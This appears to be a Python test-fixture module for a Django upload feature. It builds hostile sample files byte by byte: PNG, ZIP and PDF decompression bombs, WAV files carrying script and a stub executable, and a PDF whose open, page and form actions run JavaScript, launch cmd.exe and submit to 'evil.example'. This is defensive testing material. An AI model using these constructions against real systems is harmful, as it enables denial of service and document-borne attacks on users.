"""Files as people and enemies send them, made here byte by byte."""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Mapping

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageDraw

HOME = (51.501, -0.142)
ORIENTATION, GPS, MAKER, MAKER_NOTE = 0x0112, 0x8825, 0x010F, 0x927C


def upload(data: bytes, name: str = "letter.pdf") -> SimpleUploadedFile:
    """The file as Django hands it to a view."""
    return SimpleUploadedFile(name, data)


def picture(size: tuple[int, int] = (300, 200), *, mode: str = "RGB") -> Image.Image:
    """White paper with a black square in its top left corner."""
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 3, size[1] // 3), fill="black")
    return image.convert(mode)


def photo(kind: str = "JPEG", *, turned: bool = False, size: tuple[int, int] = (300, 200), mode: str = "RGB") -> bytes:
    """A photo. `turned`: taken with the telephone on its side, as EXIF says, with the place of a home beside it."""
    exif = Image.Exif()
    if turned:
        exif[ORIENTATION] = 6
        exif[MAKER] = "Telephone of Sam Sample"
        degrees = (51.0, 30.0, 3.6)
        exif.get_ifd(GPS).update({1: "N", 2: degrees, 3: "W", 4: (0.0, 8.0, 31.2)})
    out = io.BytesIO()
    picture(size, mode=mode).save(out, kind, exif=exif, **({"comment": b"at home"} if kind == "JPEG" else {}))
    return out.getvalue()


def large_photo(megabytes: int = 20) -> bytes:
    """A photo of at least so many megabytes, less than two more."""
    out = io.BytesIO()
    side = int((megabytes * 1_000_000 / 1.9) ** 0.5)
    image = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
    image.save(out, "JPEG", quality=100)
    return out.getvalue()


def png_bomb(side: int = 30_000) -> bytes:
    """A small PNG that unpacks to nearly three gigabytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        body = name + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    head = side.to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    rows = zlib.compress(bytes(1_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def zip_bomb() -> bytes:
    """A small archive that unpacks to a hundred megabytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", bytes(100_000_000))
    return out.getvalue()


def chunk(name: bytes, data: bytes, size: int | None = None) -> bytes:
    """A part of a RIFF file, with the length it says it has."""
    return name + (len(data) if size is None else size).to_bytes(4, "little") + data + b"\x00" * (len(data) % 2)


def shape(*, coding: int = 1, channels: int = 1, rate: int = 16_000, bits: int = 16) -> bytes:
    """What a WAV file says of its sound."""
    frame = channels * bits // 8
    return struct.pack("<HHIIHH", coding, channels, rate, rate * frame % 2**32, frame % 2**16, bits)


def riff(*chunks: bytes, size: int | None = None) -> bytes:
    """A WAV file of these parts."""
    body = b"WAVE" + b"".join(chunks)
    return b"RIFF" + (len(body) if size is None else size).to_bytes(4, "little") + body


def recording(seconds: float = 0.5, *, rate: int = 16_000, channels: int = 1, bits: int = 16) -> bytes:
    """A WAV file of a quiet tone."""
    wave = bytes(range(0, 250, 25))
    sound = wave * (int(seconds * rate * channels * bits // 8) // len(wave))
    return riff(chunk(b"fmt ", shape(rate=rate, channels=channels, bits=bits)), chunk(b"data", sound))


def talking_recording() -> bytes:
    """A WAV file that gives away who made it where, and carries a page and a program."""
    told = chunk(b"LIST", b"INFOIART" + (11).to_bytes(4, "little") + b"Sam Sample\x00\x00")
    page = chunk(b"id3 ", b"<html><script>evil()</script></html>")
    xml = chunk(b"iXML", b"<BWFXML><LOCATION>1 Home Street</LOCATION></BWFXML>")
    sound = chunk(b"data", bytes(range(200)) * 80)
    return riff(told, page, chunk(b"fmt ", shape()), xml, sound, chunk(b"exe ", program())) + program()


def word_file() -> bytes:
    """The beginning of a .docx."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return out.getvalue()


def program() -> bytes:
    """The beginning of a program for Windows."""
    return b"MZ\x90\x00\x03" + bytes(200) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(500)


def pdf(text: str = "", *, extra: Mapping[int, bytes] | None = None, root: str = "", page: str = "") -> bytes:
    """A PDF of one page with these words in lines. `extra` objects count from 10; `root`, `page`: more entries."""
    lines = " T* ".join(f"({line}) Tj" for line in text.split("\n"))
    drawing = f"BT /F1 12 Tf 14 TL 50 700 Td {lines} ET".encode()
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R {root} >>".encode(),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: (
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            f" /Resources << /Font << /F1 5 0 R >> >> {page} >>"
        ).encode(),
        4: stream(drawing),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        **(extra or {}),
    }
    return assembled(objects)


def stream(data: bytes, entries: str = "") -> bytes:
    """A stream object."""
    return f"<< /Length {len(data)} {entries} >>\nstream\n".encode() + data + b"\nendstream"


def assembled(objects: Mapping[int, bytes]) -> bytes:
    """The file, with where everything stands at its end."""
    out, places = b"%PDF-1.7\n", {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    for number, place in places.items():
        out += (b"xref\n" if place == places[min(places)] else b"") + f"{number} 1\n{place:010d} 00000 n \n".encode()
    trailer = f"trailer << /Root 1 0 R /Size {max(places) + 1} >>\nstartxref\n{start}\n%%EOF\n"
    return out + trailer.encode()


SCRIPT = "app.alert('taken over'); this.submitForm('http://evil.example/');"


def scripted_pdf() -> bytes:
    """A PDF that runs a script when it is opened, on its page, in its form and behind a link, and carries a program."""
    action = f"<< /Type /Action /S /JavaScript /JS ({SCRIPT}) >>".encode()
    look = stream(b"BT /F1 12 Tf 2 2 Td (typed by hand) Tj ET", (
        "/Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F1 5 0 R >> >>"
    ))  # fmt: skip
    extra = {
        10: action,
        11: b"<< /Names [(start) 10 0 R] >>",
        12: b"<< /Fields [14 0 R] /NeedAppearances true /XFA 17 0 R >>",
        13: b"<< /Type /Annot /Subtype /Link /Rect [0 0 500 500] /A << /S /Launch /F (cmd.exe)"
            b" /Next << /S /URI /URI (http://evil.example/) >> >> >>",
        14: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (box) /Rect [50 600 250 620] /F 4 /AP << /N 16 0 R >>"
            b" /AA << /K 10 0 R /F 10 0 R >> /A 10 0 R >>",
        15: b"<< /Type /Filespec /F (run.exe) /EF << /F 18 0 R >> >>",
        16: look,
        17: stream(b"<xdp><script>evil()</script></xdp>"),
        18: stream(program(), "/Type /EmbeddedFile"),
        19: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 15 0 R >>",
        20: b"<< /Names [(run.exe) 15 0 R] >>",
        21: stream(b"<x:xmpmeta>Sam Sample, 1 Home Street</x:xmpmeta>", "/Type /Metadata /Subtype /XML"),
    }  # fmt: skip
    return pdf(
        "A letter",
        extra=extra,
        root="/OpenAction 10 0 R /AA << /WC 10 0 R >> /AcroForm 12 0 R /Metadata 21 0 R /AF [15 0 R]"
        " /Names << /JavaScript 11 0 R /EmbeddedFiles 20 0 R >>",
        page="/AA << /O 10 0 R /C 10 0 R >> /Annots [13 0 R 14 0 R 19 0 R]",
    )


def pdf_bomb(megabytes: int = 200) -> bytes:
    """A small PDF whose page unpacks to very much."""
    packed = zlib.compress(bytes(megabytes * 1_000_000), 9)
    return assembled(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
            4: stream(packed, "/Filter /FlateDecode"),
        }
    )


def many_pages(count: int) -> bytes:
    """A PDF of so many pages."""
    pages = dict.fromkeys(range(10, 10 + count), b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")
    kids = " ".join(f"{number} 0 R" for number in pages)
    top = f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode()
    return assembled({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: top, **pages})
